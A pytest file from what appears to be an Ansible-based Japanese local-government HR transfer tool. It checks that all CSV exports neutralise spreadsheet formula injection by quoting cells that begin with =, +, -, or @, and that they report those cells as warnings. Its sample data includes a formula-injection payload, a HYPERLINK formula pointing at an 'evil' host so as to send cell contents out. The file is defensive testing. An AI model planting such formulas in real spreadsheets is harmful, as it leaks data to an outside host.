"""Spreadsheet formula injection: every CSV the project writes goes through one writer
(ledger.encoding.csv_bytes) which writes a cell starting like a formula (= + - @, or a TAB/CR before
one) as text, with a single quote in front (the OWASP rule), and lists it; import_files puts the list
in the plan's warnings. No server needed."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from ansible.module_utils.hr_transfer import exports as hx  # noqa: E402
from ansible.module_utils.hr_transfer import limits as hlim  # noqa: E402
from ansible.module_utils.ledger.encoding import csv_bytes, neutralise  # noqa: E402
from test_hr_plan import STAFF, orgs, run, seeded  # noqa: E402

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x","詳細")', '\'=HYPERLINK("http://x","詳細")'),
        ("+81-6-1234", "'+81-6-1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=", "'="),
    ],
)
def test_a_cell_starting_like_a_formula_is_written_as_text(value, written):
    assert neutralise(value) == written
    flagged = []
    data = csv_bytes(["氏名", "職名"], [["山田　太郎", value]], "cp932", flagged)
    assert list(csv.reader(io.StringIO(data.decode("cp932"), newline="")))[1] == ["山田　太郎", written]
    assert flagged == [(2, "職名", value)]


@pytest.mark.parametrize("value", ["山田=太郎", "a-b", " =1", "＝1+1", "", "'=1", 3, None])
def test_other_cells_are_untouched(value):
    assert neutralise(value) is value
    flagged = []
    csv_bytes(["x"], [[value]], "utf-8", flagged)
    assert flagged == []


def test_writing_twice_adds_no_second_quote():
    first = csv_bytes(["備考"], [["=1+1"]], "cp932")
    value = list(csv.reader(io.StringIO(first.decode("cp932"))))[1][0]
    assert value == "'=1+1" and csv_bytes(["備考"], [[value]], "cp932") == first


ORDERS = """
270001,=HYPERLINK("http://evil/"&A1)　蓮,-トクナガ　レン,採用,,110100,主事,2027/04/01
279001,@濵田　湊,ハマダ　ミナト,転入,+大阪府,120200,主査,2027/04/01
"""


def test_every_import_file_neutralises_and_the_plan_lists_the_rows():
    result = run(ORDERS.replace('"http://evil/"&A1', "1+1"), seeded(STAFF), nxt=None)
    assert result.issues == []
    current, nxt, diff = orgs(None)
    ex = hx.Exports(current, nxt, diff, result.final, result.people, "u")
    ledger = hlim.read_table(
        "資産番号,種別,設置場所,所属,利用者\r\n-NB-1,ノートPC,本庁,総務部/人事課,@SUM(A1)\r\n".encode(
            "cp932"
        ),
        "pc_assets.csv",
    )
    built = hx.build_files(
        ex, result, {"internet_lgwan": "g-x"}, "cp932", ledger=ledger, moving_kinds={"ノートPC"}
    )
    cells = {
        name: [c for row in csv.reader(io.StringIO(data.decode("cp932"), newline="")) for c in row]
        for name, (data, _n) in built.contents.items()
    }
    for name in ("skysea_users.csv", "transfer_internet_lgwan.csv", "plan_by_person.csv"):
        assert "'=HYPERLINK(1+1)　蓮" in cells[name], name
        assert not any(re.match(r"[=+\-@\t\r]", c) for c in cells[name]), name
    assert "'-トクナガ レン" in cells["skysea_users.csv"] and "'@濵田　湊" in cells["skysea_users.csv"]
    assert cells["pc_assets.csv"][-5:] == ["'-NB-1", "ノートPC", "本庁", "総務部/人事課", "'@SUM(A1)"]
    warnings = {w.split(":", 1)[0]: w for w in ex.warnings if w.startswith("取込ファイル")}
    assert set(warnings) == {
        "取込ファイル skysea_users.csv",
        "取込ファイル transfer_internet_lgwan.csv",
        "取込ファイル plan_by_person.csv",
        "取込ファイル pc_assets.csv",
    }
    assert (
        "（2 件、元の入力を確認）: 2行目 資産番号 '-NB-1'; 2行目 利用者 '@SUM(A1)'"
        in warnings["取込ファイル pc_assets.csv"]
    )
    users = warnings["取込ファイル skysea_users.csv"]
    assert (
        "氏名 '=HYPERLINK(1+1)　蓮'" in users
        and "氏名カナ '-トクナガ レン'" in users
        and "氏名 '@濵田　湊'" in users
    )


def test_the_project_has_one_csv_writer():
    writers = []
    for folder in ("plugins", "library", "jichitai_ops", "filter_plugins"):
        for path in (ROOT / folder).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", text):
                writers.append(str(path.relative_to(ROOT)))
    assert writers == ["plugins/module_utils/ledger/encoding.py"]
